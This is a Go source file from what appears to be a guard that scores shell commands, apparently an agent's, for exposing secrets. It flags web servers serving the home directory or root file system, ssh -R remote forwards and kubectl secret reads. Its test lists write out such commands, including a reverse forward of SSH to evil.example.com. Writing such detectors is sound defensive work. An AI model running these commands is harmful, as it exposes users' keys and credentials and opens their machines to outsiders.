package shell

import (
	"strings"

	"github.com/actionguard/actionguard/rule"
)

// Exposing secrets to the network without sending them: a web server
// serving the home directory or the whole file system, a reverse tunnel
// that opens a local port on another machine.

var (
	ruleServeSecrets = &rule.Rule{
		ID: "shell.net.serve-secrets", Category: rule.Credentials, Points: 60,
		Summary:     "Serves the home directory or the whole file system (SSH keys, cloud credentials among them) to anyone who can reach this machine.",
		Alternative: "serve only the project's output directory (--directory build) and bind to 127.0.0.1",
		Match: []string{"python3 -m http.server 8000 --directory ~", "python3 -m http.server -d / 8080 --bind 0.0.0.0", "cd ~ && python3 -m http.server",
			"php -S 0.0.0.0:8000 -t ~", "http-server ~ -p 8080"},
		NoMatch: []string{"python3 -m http.server 8000 --directory build", "python3 -m http.server -d docs --bind 127.0.0.1", "php -S localhost:8000 -t public"},
	}
	ruleRemoteForward = &rule.Rule{
		ID: "shell.net.remote-forward", Category: rule.Network, Points: 40,
		Summary:     "Opens a port of this machine on another machine (ssh -R): whoever is there reaches the local service.",
		Alternative: "forward only from here to there (ssh -L) unless you mean to expose the service",
		Match:       []string{"ssh -R 8080:localhost:22 evil.example.com", "ssh -N -R 9000:localhost:8000 host"},
		NoMatch:     []string{"ssh -L 5432:db:5432 bastion", "ssh prod uptime"},
	}
	exposeRules = []*rule.Rule{ruleServeSecrets, ruleRemoteForward}
)

func exposeHandlers() map[string][]handler {
	return map[string][]handler{
		"http-server": {serveHandler},
		"serve":       {serveHandler}, "httpd": {serveHandler}, "busybox": {serveHandler}, "ssh": {remoteForwardHandler}, "autossh": {remoteForwardHandler},
		"kubectl": {secretReadHandler}, "oc": {secretReadHandler},
	}
}

// servedDir returns the directory a static web server serves and whether
// c is one, with whether it listens only on the loopback interface.
func servedDir(c *Cmd) (dir string, ok, loopback bool) {
	loop := func(a string) bool {
		return strings.HasPrefix(a, "127.") || strings.HasPrefix(a, "localhost") || a == "::1" || strings.HasPrefix(a, "[::1]")
	}
	switch c.Name {
	case "python", "python3", "python2":
		m, _ := c.Flag("-m")
		if m != "http.server" && m != "SimpleHTTPServer" {
			return "", false, false
		}
		dir = "."
		if d, ok := c.Flag("-d", "--directory"); ok {
			dir = d
		}
		b, _ := c.Flag("-b", "--bind")
		return dir, true, b != "" && loop(b)
	case "php":
		s, ok := c.Flag("-S")
		if !ok {
			return "", false, false
		}
		dir = "."
		if d, ok := c.Flag("-t"); ok {
			dir = d
		}
		return dir, true, loop(s)
	case "http-server", "serve":
		dir = "."
		for _, p := range c.Argv().Operands {
			if !isDigits(p) { // the value of -p, -c… when no spec says they take one
				dir = p
				break
			}
		}
		a, _ := c.Flag("-a", "--listen", "-l")
		return dir, true, a != "" && loop(a)
	case "httpd", "busybox":
		if c.Name == "busybox" && !c.ArgIs("httpd") {
			return "", false, false
		}
		dir = "."
		if d, ok := c.Flag("-h"); ok {
			dir = d
		}
		p, _ := c.Flag("-p")
		return dir, true, loop(p)
	}
	return "", false, false
}

// serveInterpreter judges the interpreters' built-in web servers
// (python -m http.server, php -S), which the interpreter analysis handles
// before the program handlers.
func serveInterpreter(c *Cmd, r *report) {
	switch c.Name {
	case "python", "python3", "python2", "php":
		serveHandler(c, r)
	}
}

func serveHandler(c *Cmd, r *report) {
	dir, ok, loopback := servedDir(c)
	if !ok || loopback {
		return
	}
	cl := c.Class(dir)
	switch {
	case cl.Root || cl.System && cl.Known && !cl.InHome:
		r.add(c.find(ruleServeSecrets, "Serves the whole file system ("+dir+") to anyone who can reach this machine.", dir))
	case cl.Home:
		r.add(c.find(ruleServeSecrets, "Serves your home directory ("+dir+"), SSH keys and cloud credentials among it, to anyone who can reach this machine.", dir))
	case cl.Credential != "":
		r.add(c.find(ruleServeSecrets, "Serves your "+cl.Credential+" ("+dir+") to anyone who can reach this machine.", dir))
	}
}

// remoteForwardHandler: ssh -R opens a port of this machine on the remote
// host.
func remoteForwardHandler(c *Cmd, r *report) {
	for _, o := range c.Argv().Opts {
		if o.Name == "-R" || o.Spelled == "-R" {
			r.add(c.find(ruleRemoteForward, "Opens this machine's port ("+o.Value+") on the remote host: whoever is there reaches the local service.", "-R"))
			return
		}
	}
	for _, o := range c.FlagAll("-o") {
		if k, _, _ := strings.Cut(o, "="); strings.EqualFold(strings.TrimSpace(k), "RemoteForward") {
			r.add(c.find(ruleRemoteForward, "Opens a port of this machine on the remote host ("+o+").", o))
			return
		}
	}
}

// secretReadHandler: kubectl get secret -o yaml prints every secret's
// value into the agent's context.
func secretReadHandler(c *Cmd, r *report) {
	if tokenProducer(c) == "Kubernetes secrets" {
		r.add(c.find(ruleCredentialRead, "Prints the values of Kubernetes secrets where the agent and its logs can see them.", c.Name))
	}
}
